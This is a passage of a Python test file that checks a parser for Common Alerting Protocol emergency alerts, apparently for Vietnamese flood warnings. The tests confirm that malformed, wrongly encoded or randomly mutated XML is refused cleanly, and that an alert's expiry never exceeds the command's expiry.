        decide_xml(xml_alert(infos=(info[:start] + info[end:],)))


@pytest.mark.parametrize(
    ("document", "match"),
    [
        (xml_alert(header="<status>Test</status>"), "more than one status"),
        (xml_alert(header="<references>a,b,c</references><references>d,e,f</references>"), "one"),
        (xml_alert(infos=(xml_info(extra=f"<expires>{EARLIER}</expires>", expires=LATER),)), "one"),
        (xml_alert(status="actual"), "status"),
        (xml_alert(msg_type="Alarm"), "msgType"),
        (xml_alert().replace("<scope>Public</scope>", "<scope>All</scope>"), "scope"),
        (xml_alert().replace("<identifier>VN-KTTV-2026-1122-001", "<identifier>"), "identifier"),
        (xml_alert().replace("VN-KTTV-2026-1122-001", "VN KTTV"), "identifier"),
        (xml_alert().replace("+07:00</sent>", "</sent>"), "sent"),
        (xml_alert(infos=(xml_info(expires="2026-11-22"),)), "expires"),
        (xml_alert(infos=(xml_info(expires=""),)), "expires"),
        (xml_alert().replace("<sender>", "<sender><b>x</b>"), "text only"),
    ],
)
def test_xml_malformed_content(document: str, match: str) -> None:
    with pytest.raises(CapError, match=match):
        decide_xml(document)


@pytest.mark.parametrize(
    "document",
    [
        "",
        "   ",
        "Actual",
        "<alert>",
        xml_alert() + "<alert/>",
        xml_alert().replace("</alert>", ""),
        xml_alert().replace("<scope>Public</scope>", "<scope>Public</Scope>"),
        xml_alert().replace('<alert xmlns="', '<alert xmlns:x="y" x:a="1" x:a="2" xmlns="'),
        xml_alert(header="<cap:note>undeclared prefix</cap:note>"),
        xml_alert(header="<note>\x01</note>"),
        xml_alert(header="<note>\x00</note>"),
        xml_alert(header="<note>\ufffe</note>"),
        "<html><body>502 Bad Gateway</body></html>",
    ],
)
def test_not_well_formed_xml_is_refused(document: str) -> None:
    with pytest.raises(CapError):
        decide_xml(document)


@pytest.mark.parametrize(
    "declaration",
    [
        '<?xml version="1.0" encoding="ISO-8859-1"?>',
        '<?xml version="1.0" encoding="UTF-16"?>',
        '<?xml version="1.0" encoding="windows-1258"?>',
    ],
)
def test_a_non_utf8_encoding_declaration_is_refused(declaration: str) -> None:
    document = xml_alert().replace('<?xml version="1.0" encoding="UTF-8"?>', declaration)
    with pytest.raises(CapError, match="UTF-8"):
        decide_xml(document)


def test_a_lone_surrogate_is_refused() -> None:
    # JSON can carry "\ud800"; such a str has no UTF-8 form.
    with pytest.raises(CapError, match="Unicode"):
        decide_xml(xml_alert(infos=(xml_info(headline="lũ \ud800"),)))


def test_mojibake_is_just_text() -> None:
    # Latin-1 read bytes of "Lũ" arrive as valid (if ugly) Unicode: no reason to refuse.
    decision = decide_xml(xml_alert(infos=(xml_info(headline="LÅ©"),)))
    assert decision.headline == "LÅ©"


@pytest.mark.parametrize("value", [None, 42, b"<alert/>", ["<alert/>"], {"alert": 1}])
def test_cap_xml_must_be_a_string(value: object) -> None:
    with pytest.raises(CapError, match="string"):
        decide(command(cap_xml=value), COMMAND_EXPIRES)


# -- properties ------------------------------------------------------------------------------------
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=40),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)
# Fixed offsets within +-23:59 (wire times carry whole-minute offsets; zoneinfo's historic
# offsets of seconds, like Saigon's LMT +07:06:40, have no RFC 3339 spelling).
OFFSETS = st.integers(min_value=-1439, max_value=1439).map(
    lambda minutes: timezone(timedelta(minutes=minutes))
)
TIMES = st.datetimes(
    min_value=datetime(1970, 1, 2), max_value=datetime(8998, 12, 30), timezones=OFFSETS
)
TIME_TEXT = st.one_of(
    st.sampled_from([EARLIER, LATER, "2026-11-22T04:00:00-00:00", "2026-11-22T04:00:00Z"]),
    st.builds(lambda m: m.isoformat(timespec="seconds"), TIMES),
    st.text(max_size=30),
)
NEAR_VALID = st.fixed_dictionaries(
    {
        "identifier": st.one_of(st.just("X-1"), st.text(max_size=8), JSON),
        "sender": st.one_of(st.just("s@x"), JSON),
        "sent": st.one_of(TIME_TEXT, JSON),
        "status": st.one_of(
            st.sampled_from(["Actual", "Test", "Exercise", "System", "Draft"]), JSON
        ),
        "msgType": st.one_of(st.sampled_from(["Alert", "Update", "Cancel", "Ack", "Error"]), JSON),
        "scope": st.one_of(st.sampled_from(["Public", "Restricted", "Private"]), JSON),
    },
    optional={
        "references": st.one_of(
            st.just("a@b,X0,2026-11-22T09:00:00+07:00"), st.text(max_size=40), JSON
        ),
        "expires": st.one_of(TIME_TEXT, JSON),
        "headline": st.one_of(st.text(max_size=300), JSON),
        "event": JSON,
        "info": st.one_of(
            JSON,
            st.lists(
                st.fixed_dictionaries(
                    {},
                    optional={"expires": TIME_TEXT, "headline": st.text(), "language": JSON},
                ),
                max_size=3,
            ),
        ),
    },
)


def check(doc: dict[str, Any], command_expires: datetime, sound_tests: bool) -> None:
    """The property: a decision whose expiry is not after the command's, or CapError."""
    try:
        decision = decide(doc, command_expires, sound_tests=sound_tests)
    except CapError:
        return
    assert decision.action in ("sound", "silent", "cancel")
    assert decision.expires <= command_expires
    assert (decision.reason is None) == (decision.action != "silent")
    assert decision.headline is None or len(decision.headline) <= HEADLINE_MAX


@given(
    cap=st.one_of(JSON, NEAR_VALID),
    references=st.one_of(st.none(), st.just("cmd-1"), JSON),
    expires=TIMES,
    sound_tests=st.booleans(),
)
@settings(max_examples=budget(400), suppress_health_check=[HealthCheck.too_slow])
def test_structured_cap_never_raises_anything_but_cap_error(
    cap: Any, references: Any, expires: datetime, sound_tests: bool
) -> None:
    doc = command(cap=cap) if references is None else command(cap=cap, references=references)
    check(doc, expires, sound_tests)


@given(text=st.text(max_size=400), expires=TIMES, sound_tests=st.booleans())
@settings(max_examples=budget(300))
def test_arbitrary_text_as_cap_xml_is_refused_cleanly(
    text: str, expires: datetime, sound_tests: bool
) -> None:
    check(command(cap_xml=text), expires, sound_tests)


XML_PIECES = st.sampled_from(
    [
        "<",
        ">",
        "&",
        "&amp;",
        "]]>",
        "<![CDATA[",
        "<!DOCTYPE alert>",
        '<!ENTITY x "y">',
        "&x;",
        "</info>",
        "<info>",
        "<expires>2026-11-22T13:00:00+07:00</expires>",
        "<status>Test</status>",
        "<msgType>Cancel</msgType>",
        "<references>a,b,c</references>",
        '<?xml version="1.0" encoding="latin-1"?>',
        "\ud800",
        "\x00",
        "-00:00",
        "ữ",
    ]
)


@given(
    base=st.sampled_from(
        [
            xml_alert(infos=(xml_info(expires=EARLIER),)),
            xml_alert(msg_type="Cancel", references=TWO_REFS),
            OASIS_THUNDERSTORM,
            OASIS_EARTHQUAKE_UPDATE,
            OASIS_AMBER_MULTILINGUAL,
        ]
    ),
    edits=st.lists(
        st.tuples(
            st.floats(min_value=0, max_value=1),
            st.integers(min_value=0, max_value=20),
            st.one_of(XML_PIECES, st.text(alphabet=string.printable, max_size=8)),
        ),
        min_size=1,
        max_size=4,
    ),
    expires=TIMES,
    sound_tests=st.booleans(),
)
@settings(max_examples=budget(400))
def test_mutated_cap_xml_never_raises_anything_but_cap_error(
    base: str,
    edits: list[tuple[float, int, str]],
    expires: datetime,
    sound_tests: bool,
) -> None:
    document = base
    for where, delete, insert in edits:
        at = int(where * len(document))
        document = document[:at] + insert + document[at + delete :]
    check(command(cap_xml=document, references="cmd-1"), expires, sound_tests)


@given(command_expires=TIMES, cap_expires=TIMES)
def test_the_effective_expiry_is_the_earlier_of_the_two(
    command_expires: datetime, cap_expires: datetime
) -> None:
    text = cap_expires.isoformat()
    structured = decide(command(cap=fields(expires=text)), command_expires)
    document = decide(command(cap_xml=xml_alert(infos=(xml_info(expires=text),))), command_expires)
    assert structured.expires == document.expires == min(command_expires, cap_expires)
    assert structured.expires <= command_expires
